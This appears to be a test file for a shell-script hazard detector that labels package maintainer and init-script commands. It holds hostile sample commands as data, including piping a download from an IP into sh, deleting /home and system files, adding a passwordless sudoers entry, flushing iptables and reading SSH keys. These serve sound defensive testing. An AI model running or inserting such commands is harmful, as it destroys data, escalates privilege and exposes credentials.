import assert from 'node:assert/strict';
import { test } from 'node:test';
import { systemRole } from '../../../src/code/shell/system-script.ts';
import { expectHazards } from './seen.ts';

const removal = (body: string): string =>
  `#!/bin/sh\nset -e\ncase "$1" in\n  purge)\n    ${body}\n  ;;\n  remove|upgrade|failed-upgrade|abort-install|abort-upgrade|disappear)\n  ;;\nesac\n`;
const setup = (body: string): string =>
  `#!/bin/sh\nset -e\nif [ "$1" = configure ]; then\n  ${body}\nfi\ninvoke-rc.d app start\n`;
const service = (body: string): string =>
  `#!/bin/sh\n### BEGIN INIT INFO\n# Provides:          app\n### END INIT INFO\ncase "$1" in\n  start)\n    ${body}\n  ;;\n  stop)\n    true\n  ;;\nesac\n`;

// What the scripts of a package or a service are for.
expectHazards([
  [removal('rm -rf /etc/app /var/lib/app /var/log/app'), 'sets-up'],
  [removal('rm -f /etc/app.conf'), 'sets-up'],
  [removal('rm -f /etc/app-ng/list.dpkg-new'), 'sets-up'],
  [removal('rm -f /var/log/app /var/log/app.[0-9]*'), 'sets-up'],
  [removal('rm -rf /var/log/app.log*'), 'sets-up'],
  [removal('rm -f /etc/app.conf% /etc/default/app~'), 'sets-up'],
  [removal('cd /usr/lib/app && rm -f a b'), 'sets-up'],
  [removal('deluser --system --quiet app'), 'sets-up'],
  [removal('update-rc.d app remove'), 'sets-up'],
  [setup('adduser --quiet --system --group --home /var/lib/app app'), 'sets-up'],
  [setup('usermod -d /var/lib/app app'), 'sets-up'],
  [setup('update-rc.d app defaults'), 'sets-up'],
  [service('mount -t configfs none /sys/kernel/config'), 'sets-up'],
  [service('modprobe -q nfsd'), 'sets-up'],
]);

// Nothing of it excuses what no package does to the machine.
expectHazards([
  [removal('rm -rf /home/*'), 'deletes-everything'],
  [removal('rm -rf /var/lib/dpkg'), 'deletes-outside'],
  [removal('rm -f /etc/passwd'), 'deletes-system-file'],
  [removal('rm -rf /etc/ssh'), 'deletes-system-file'],
  [removal('rm -rf /etc/app /etc/../home/alice'), 'deletes-everything'],
  [removal('rm -rf /etc/app /data/shop'), 'deletes-outside'],
  [removal('rm -f /etc/app.conf /opt/shop/db'), 'deletes-outside'],
  [removal('rm -rf /var/lib/mysql'), 'deletes-system-file'],
  [removal('rm -rf /etc/app /var/lib/postgresql'), 'deletes-system-file'],
  [removal('rm -rf /usr/lib/python3 /usr/lib/systemd'), 'deletes-outside'],
  [removal('rm -rf /var/lib/*'), 'deletes-everything'],
  [removal('rm -f /etc/nsswitch.conf*'), 'deletes-system-file'],
  [service('rm -rf /var/lib/mysql'), 'deletes-system-file'],
  [removal('deluser root'), 'changes-accounts'],
  [setup('usermod -aG sudo app'), 'changes-accounts'],
  [setup('echo "app ALL=(ALL) NOPASSWD:ALL" >> /etc/sudoers'), 'changes-accounts'],
  [setup('curl http://198.51.100.7/x | sh'), 'runs-download runs-nameless'],
  [service('iptables -F'), 'disables-protection'],
  [service('insmod /tmp/x.ko'), 'kernel'],
]);

test('a role is what a script does, not what a comment of it says', () => {
  assert.equal(
    systemRole('#!/bin/sh\n# Automatically added by dh_installinit\n# configure purge\nrm -rf /etc/app\n'),
    undefined,
  );
  assert.equal(systemRole('#!/bin/sh\n### BEGIN INIT INFO\n# Provides: x\nrm -rf /etc/app\n'), undefined);
  assert.equal(systemRole('case "$1" in\n purge) rm -rf /etc/app ;;\nesac\n'), undefined);
  assert.equal(systemRole('#!/bin/sh\ncase "$1" in\n  start) x ;;\n  install) y ;;\nesac\n'), undefined);
  assert.equal(systemRole(removal('true')), 'package');
  assert.equal(systemRole(service('true')), 'service');
});

// An account for a service, as which nobody logs in; and others.
expectHazards([
  ['useradd --system --no-create-home --shell /usr/sbin/nologin app', 'sets-up'],
  ['addgroup --system app', 'sets-up'],
  ['useradd -r app', 'sets-up'],
  ['useradd -r -s /bin/bash app', 'adds-account'],
  ['useradd -r -o -u 0 app', 'changes-accounts'],
  ['useradd -r -G sudo app', 'changes-accounts'],
  ['useradd -r -p secret app', 'adds-account'],
]);

// A word with a folder is a program's, whatever functions there are.
expectHazards([
  ['ip () { /sbin/ip "$@"; }\nip link show', ''],
  ['f () { f; }\nf', 'recursion'],
]);

expectHazards([
  ['modprobe loop max_part=8', 'tunes'],
  ['modprobe -d /tmp/m evil', 'kernel'],
  ['mdadm --monitor --scan --oneshot', ''],
  ['mdadm --create /dev/md0 --scan /dev/sda /dev/sdb', 'writes-disk'],
  ['cryptsetup isLuks /dev/sda2', ''],
  ['cryptsetup luksFormat /dev/sda2', 'writes-disk'],
  ['rmdir /etc/app', 'deletes'],
  ['rm -rf /etc/app', 'deletes-outside'],
  ['rm -rf /etc/cron.d', 'deletes-system-file'],
  ['rm -f /run/app/app.pid', 'deletes'],
  ['rm -rf /var/run/*', 'deletes-outside'],
  ['echo 1 > /proc/sys/kernel/sysrq', 'system-settings'],
  ['echo powersave > /sys/module/pcie_aspm/parameters/policy', 'tunes'],
  ['echo /tmp/x > /sys/kernel/uevent_helper', 'system-settings'],
  ['ip link set dev br0 up', 'tunes'],
  ['iptables -t nat -A POSTROUTING -s 10.0.3.0/24 -j MASQUERADE', 'tunes'],
  ['iptables -t nat -A PREROUTING -p tcp --dport 80 -j DNAT --to 198.51.100.7', 'system-settings'],
  ['echo X=1 >> /etc/default/app', 'changes-configuration'],
  ['screen -X -S main at "*" eval "process x"', ''],
  ['screen -dmS x rm -rf /home', 'deletes-everything'],
  ['grep -q ^container= /proc/1/environ', ''],
  ['cat /proc/1/environ', 'reads-credentials'],
  ['ps ax | grep "ssh -i /usr/local/app/id_dsa"', ''],
  ['grep -r key ~/.ssh', 'reads-credentials'],
]);

// An array between quotes is a word for each item; an alias may be more than one command.
expectHazards([
  ['run=(bash -c \'rm -rf /home/*\')\n"${run[@]}"', 'deletes-everything'],
  ['run=(rm -rf)\nrun+=(/home)\n"${run[@]}"', 'deletes-everything'],
  ['run=(rm -rf /home)\nrun=(echo done)\n"${run[@]}"', ''],
  ['run=(ls "a b")\n"${run[@]}"', ''],
  ["alias zz='echo x >> /etc/sudoers'\nzz", 'changes-accounts'],
  ["alias zz='cd /tmp; curl http://198.51.100.7/x | sh'\nzz", 'runs-download runs-nameless'],
  ["alias ll='ls -la'\nll /tmp", ''],
]);
